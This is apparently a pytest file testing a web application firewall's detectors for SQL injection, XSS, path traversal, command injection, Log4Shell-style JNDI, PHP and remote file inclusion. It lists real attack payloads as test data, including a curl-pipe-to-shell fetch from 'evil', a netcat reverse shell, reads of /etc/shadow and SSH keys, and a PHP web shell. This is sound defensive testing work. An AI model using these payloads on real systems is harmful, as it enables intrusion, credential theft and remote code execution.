"""Each detector on its own: attacks with the classic evasions, and near-miss benign values.
Detectors take the decoded, lower-cased value (the engine decodes with wafdecode first)."""
import pytest

from fastgate._core.wafdecode import decode
from fastgate.waf import cmdi, extra, sqli, traversal, xss


def norm(s: str) -> str:
    return decode(s.encode()).decode("latin-1").lower()


SQLI_ATTACKS = [
    "1' or '1'='1", "1 or 1=1", "admin'--", "admin' #", "' OR 1=1-- -", "') or ('a'='a",
    "1 UNION SELECT null, version()--", "x' UnIoN/**/SeLeCt 1,2,3--", "un/**/ion sel/**/ect 1,2",
    "1/*!50000union*/ /*!50000select*/ 1", "'; DROP TABLE users--", "1; insert into t (a) values (1)",
    "' AND SLEEP(5)--", "1 AND benchmark(1000000,md5(1))", "';WAITFOR DELAY '0:0:5'--",
    "' || (select user from dual) || '", "1' and extractvalue(1,concat(0x7e,version()))--",
    "select * from information_schema.tables", "1%27%20OR%20%271%27%3D%271", "%2527%20or%201%3D1--",
    "1'\tor\t'1'='1", "1'%0aor%0a'1'='1", "' or 1=1 limit 1 -- ", "1) union all select 1,2--",
    "1 and (select count(*) from users) > 0", "-1' union select password from users where '1'='1",
    "password::int", "' having 1=1--", "1 order by 5--", "a' or 'x' like 'x", "@@version",
    "select name from users", "1;exec master..xp_cmdshell 'dir'", "concat(0x7e,user())",
    # from public payload lists (PayloadsAllTheThings' intruder files)
    "' or true--", "\" or true--", "') or true--", " ORDER BY 30 ", " ORDER BY 3-- ",
    " AND 5650=CONVERT(INT,(UNION ALL SELECTCHAR(88)))-- ", "1' or 1.e(1) or '1'='1",
    " AS INJECTX WHERE 1=1 AND 1=1--", "x where 'a'='a",
    # sqlmap's payloads inside its boundaries (data/xml of sqlmap, combined here)
    "abc') OR NOT 9711=9711  AND ('ykos'='ykos", "1 OR NOT 3012=3012 -- -", "(1810=1810)*8386",
    "1 ,IIF(4638=4638,1,1/0) -- -",
    "1))) ;IF(7771=7771) SELECT 7771 ELSE DROP FUNCTION yrue  AND (((7771=7771",
    "1) ;SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2)))) -- -",
    "1 ;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(3843),0),500000000),NULL) -- -",
    "1 AND 'jjfu'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(8143),0),5000000000),NULL)",
]
SQLI_BENIGN = [
    "select a color", "drop down menu", "union station", "1 or 2 items", "O'Brien", "rock 'n' roll",
    "where is my order", "delete account", "update profile", "order by price", "having trouble logging in",
    "it's a wrap", "don't stop believing", "5'10\" height", "Tom & Jerry", "more or less", "and/or",
    "create table of contents", "select tea (20 bags)", "Search results: \"select tea\"", "I'm at the union",
    "if (user && user.isAdmin) { show(); }", "price < $20 or more", "user_id", "#1 bestseller", "--help",
    "x = a > b ? a : b;", "He said \"it's fine\" but it's not", "union of sets and intersect lines",
    "it's true or false", "Rock 'n' roll or true blues", "order by 2pm please", "where 2 roads meet",
    "sort: order by date", "null or empty", "(2+3)*4", "scores (10-10) and 5", "x=10,y=10",
    "step 1; select your plan", "not or not", "to be or not to be",
]


@pytest.mark.parametrize("payload", SQLI_ATTACKS)
def test_sqli_attacks(payload):
    assert sqli.detect(norm(payload), "value"), payload


@pytest.mark.parametrize("text", SQLI_BENIGN)
def test_sqli_benign(text):
    assert sqli.detect(norm(text), "value") is None, text


def test_sqli_mongo_operators_in_names():
    assert sqli.detect("u_id[$ne]", "name") and sqli.detect("$where", "jsonkey")


XSS_ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "\"><svg onload=confirm(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=x() \"",
    "javascript:alert(document.cookie)", "ja&Tab;vascript&colon;alert(1)", "java\tscript:alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;", "\\u003cscript\\u003ealert(1)", "%uff1cscript%uff1e",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<a href=\"javascript:void(0)\">x</a>",
    "<body onload=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">", "</title><script>",
    "document.cookie", "window.location='//evil'", "self['alert'](1)", "top[\"al\"+\"ert\"](1)",
    "(![]+[])[+!+[]]", "[].sort.call`${alert}1`", "<math><mtext><table><mglyph><style><img src=x>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<object data=\"x.swf\">", "<meta http-equiv=refresh content=0>",
    "';alert(String.fromCharCode(88,83,83))//", "<!--#exec cmd=\"ls\"-->", "<x:script>alert(1)</x:script>",
    "<x onxxx=1", "<X OnXxx=1", "<x%0Aonxxx=1", "<x onxxx%3D1",    # handlers no browser knows yet
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
    "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
]
XSS_BENIGN = [
    "<b>bold</b> and <i>italic</i>", "<p>Hello <a href=\"https://example.com\">site</a></p>",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">", "a < b and c > d", "x<3", "<3 emoji",
    "JavaScript: The Good Parts", "I love javascript", "see the document window", "on sale now",
    "turn on the lights = good", "onboarding", "![screenshot](https://x/y.png)", "[x](./docs/a.md)",
    "class User:\n    def __init__(self, name):\n        self.name = name", "console.log(`Total: ${total}`)",
    "const total = items.reduce((s, x) => s + x.price, 0);", "Alert: your password will expire",
    "please confirm your email", "prompt engineering", "data: 42", "background: red; color: blue",
    "<a one=1>", "<p>Only one</p>", "I <3 online=fun",
    "<p style=\"font-family:'\\5B8B\\4F53'\">x</p>",
]


@pytest.mark.parametrize("payload", XSS_ATTACKS)
def test_xss_attacks(payload):
    assert xss.detect(norm(payload), "value"), payload


@pytest.mark.parametrize("text", XSS_BENIGN)
def test_xss_benign(text):
    assert xss.detect(norm(text), "value") is None, text


TRAVERSAL_ATTACKS = [
    "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
    "....//....//etc/shadow", "..;/..;/WEB-INF/web.xml", "/etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/passwd", "../../.ssh/id_rsa", "/proc/self/environ", "..%5c..%5cwin.ini", "0x2e0x2e/0x2e0x2e/x",
    ".../.../windows/win.ini", "../1.7z",
]
TRAVERSAL_BENIGN = ["docs/guide.md", "reports/2024/q1.pdf", "C:\\Temp\\out.txt", "../ relative path",
                    "a..b", "wait... what", "version 1.2..1.3", "foo../1234", "..foo", "etc.", "/v1/sys/health"]


@pytest.mark.parametrize("payload", TRAVERSAL_ATTACKS)
def test_traversal_attacks(payload):
    assert traversal.detect(norm(payload), "value"), payload


@pytest.mark.parametrize("text", TRAVERSAL_BENIGN)
def test_traversal_benign(text):
    assert traversal.detect(norm(text), "value") is None, text


def test_traversal_in_paths():
    assert traversal.detect("/a/../../etc", "path")
    assert traversal.detect("/static/..%2f..%2fx".replace("%2f", "/"), "path")
    assert traversal.detect("/.env", "path") and traversal.detect("/backup.sql.zip", "path")
    assert traversal.detect("/a/b/../c", "path") is None          # resolves inside the root
    assert traversal.detect("/.well-known/openid-configuration", "path") is None


CMDI_ATTACKS = [
    "; cat /etc/passwd", "| id", "|| whoami", "&& uname -a", "`id`", "$(whoami)", "$(sleep 5)",
    "; w'h'o'am'i", ";c\\at /etc/passwd", "cat${IFS}/etc/passwd", ";ls$IFS-la", "; /bin/cat /etc/shadow",
    "%0acat%20/etc/passwd", "1;ping -c 3 127.0.0.1", "x; curl http://evil/x.sh | sh", "; nc -e /bin/sh 1.2.3.4 4444",
    "cat /e?c/p?sswd", "/???/??t /etc/passwd", "{cat,/etc/passwd}", "() { :; }; /bin/bash -c id",
    "& dir c:\\", "| net user", "& powershell -enc ZQBjAGgAbwA=", "cmd.exe /c whoami",
    "for %a in (1) do calc", "& type %systemroot%\\win.ini", "; sudo -l", "nohup ifconfig", "whoami",
    "x`sleep${IFS}5`", "; python3 -c 'import os'", "|| wget http://x/y -O /tmp/y",
    "; sleep 15", "& sleep 1", "|| sleep 15", "&& sleep 5;", "type C:\\Windows\\repair\\SAM", "dir C:\\",
    "net user hacker Password1 /ADD", "| system('sleep 5');", "; shell_exec(\"cat /etc/passwd\")",
    "netsh firewall set opmode disable", "|usr/bin/id\\n", "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v x /f",
]
CMDI_BENIGN = [
    "cat food", "ls 460 lexus", "time warner cable", "ping pong table", "find my phone", "head and shoulders",
    "hello; time he came", "a hero; more than", "Tom & Jerry", "AT&T", "R&D budget", "mac & cheese",
    "semicolon; usage", "use `git rebase -i HEAD~3` to squash", "The zip on my coat is stuck", "python",
    "{\"a\": 1}", "tar and feathers", "if you're not sure; both work", "kills foo bar", "sleep mask",
    "await fetchUser(id).then(res => res.json())", "$HOME directory", "~/Downloads", "100% cotton", "gzip",
    "python3.11", "curl/8.5.0", "Wget/1.21.4", "pip install requests", "npm install express",
    "hello; sleep 8 hours", "eat & sleep well", "os.system('ls -la')", "exec(\"print(1)\")",
    "type here", "the registry; reg add is a command",
]


@pytest.mark.parametrize("payload", CMDI_ATTACKS)
def test_cmdi_attacks(payload):
    assert cmdi.detect(norm(payload), "value"), payload


@pytest.mark.parametrize("text", CMDI_BENIGN)
def test_cmdi_benign(text):
    assert cmdi.detect(norm(text), "value") is None, text


def test_cmdi_headers_need_shell_syntax():
    assert cmdi.detect("curl/7.68.0", "header") is None
    assert cmdi.detect("python-requests/2.31.0", "header") is None
    assert cmdi.detect("() { :; }; /bin/bash -c 'id'", "header")


@pytest.mark.parametrize("payload", ["${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x}",
                                     "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "java.lang.Runtime.getRuntime().exec('id')",
                                     "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "class.module.classLoader.x=1"])
def test_java(payload):
    assert extra.detect_java(norm(payload))


@pytest.mark.parametrize("payload", ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index",
                                     "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "eval(base64_decode('ZWNobyAx'))"])
def test_php(payload):
    assert extra.detect_php(norm(payload))


@pytest.mark.parametrize("payload", ["http://192.168.0.1/shell.txt?", "https://evil.example/x.php?", "file:///etc/passwd"])
def test_rfi(payload):
    assert extra.detect_rfi(norm(payload))


@pytest.mark.parametrize("text", ["https://example.com/docs?x=1", "see http://example.org for details"])
def test_rfi_benign(text):
    assert extra.detect_rfi(norm(text)) is None
